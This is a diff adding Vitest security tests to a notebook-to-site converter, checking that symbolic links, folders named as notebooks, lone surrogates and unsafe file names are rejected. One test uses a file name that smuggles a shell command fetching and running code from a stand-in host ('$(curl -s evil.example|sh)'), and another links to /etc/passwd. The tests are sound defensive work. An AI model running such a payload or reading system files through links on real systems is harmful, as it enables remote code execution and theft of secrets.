@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -28,6 +28,33 @@ describe('readNotebook(file, path)', () => {
 
   it('fails on a notebook over the size limit, before reading it', () => {
     expect(read(' '.repeat(MAX_NOTEBOOK_BYTES + 1))).toThrow('notebooks/x.ipynb: at the top level: expected a notebook of at most 20.0 MB, the most the site converts, got 20.0 MB');
+  });
+
+  it('reads a symbolic link to no file, naming the notebook and nothing of what it points to', () => {
+    const outside = mkdtempSync(join(tmpdir(), 'outside-'));
+    writeFileSync(join(outside, 'secret.ipynb'), JSON.stringify(notebook([markdownCell('# outside secret')])));
+    for (const target of ['/etc/passwd', join(outside, 'secret.ipynb'), '/dev/zero']) {
+      const root = repository({});
+      symlinkSync(target, join(root, 'notebooks/x.ipynb'));
+      const started = performance.now();
+      expect(() => readNotebook(join(root, 'notebooks/x.ipynb'), 'notebooks/x.ipynb')).toThrow(/^notebooks\/x\.ipynb: at the top level: expected a regular file, got a symbolic link$/);
+      expect(() => convertNotebooks(root, 'production')).toThrow('notebooks/x.ipynb: at the top level: expected a regular file, got a symbolic link');
+      expect(performance.now() - started).toBeLessThan(5000);
+      expect(existsSync(join(root, '.generated/site-static/notebooks/x.ipynb'))).toBe(false);
+    }
+  });
+
+  it('reads no special file, however it is named', () => {
+    const root = repository({});
+    mkdirSync(join(root, 'notebooks/folder.ipynb'));
+    expect(() => readNotebook(join(root, 'notebooks/folder.ipynb'), 'notebooks/folder.ipynb')).toThrow('notebooks/folder.ipynb: at the top level: expected a regular file, got a folder');
+  });
+
+  it('replaces a lone surrogate, in any string or key, with U+FFFD, as a UTF-8 decoder does', () => {
+    const text = '{"nbformat": 4, "nbformat_minor": 4, "metadata": {"title": "T \\ud800 x", "\\udfff": 1}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": "# a \\ud83d b"}]}';
+    const parsed = read(text)();
+    expect(parsed.metadata).toEqual({ title: 'T \ufffd x', '\ufffd': 1 });
+    expect(parsed.cells[0].source).toBe('# a \ufffd b');
   });
 
   it('fails on a notebook with more cells than a page shows', () => {
@@ -100,6 +127,20 @@ describe('convertNotebooks(root, variant)', () => {
   it('fails on two notebooks that would share a page, and on a name with no letter or digit', () => {
     expect(() => convertNotebooks(repository({ 'A b.ipynb': notebook(), 'a-b.ipynb': notebook() }), 'production')).toThrow('notebooks/a-b.ipynb: at the top level: expected a file name that makes a page of its own: A b.ipynb is also named a-b');
     expect(() => convertNotebooks(repository({ '__.ipynb': notebook() }), 'production')).toThrow('notebooks/__.ipynb: at the top level: expected a file name with a letter or a digit, to name the page after ("__.ipynb" has none)');
+  });
+
+  it('fails on a name a shell command could not carry, naming the file, before writing anything', () => {
+    const root = repository({ '$(curl -s evil.example|sh).ipynb': notebook() });
+    expect(() => convertNotebooks(root, 'production')).toThrow('notebooks/$(curl -s evil.example|sh).ipynb: at the top level: expected a file name of letters, digits, spaces and . _ - # % + , @ only');
+    expect(existsSync(join(root, '.generated/site-static/notebooks'))).toBe(false);
+  });
+
+  it('fails on a folder of notebooks that is a symbolic link', () => {
+    const root = repository({});
+    const elsewhere = mkdtempSync(join(tmpdir(), 'elsewhere-'));
+    mkdirSync(join(root, 'test/site'), { recursive: true });
+    symlinkSync(elsewhere, join(root, 'test/site/fixtures'));
+    expect(() => convertNotebooks(root, 'site-tests')).toThrow('test/site/fixtures: at the top level: expected a folder of notebooks, not a symbolic link or a file');
   });
 
   it('names the notebook that fails, among others', () => {
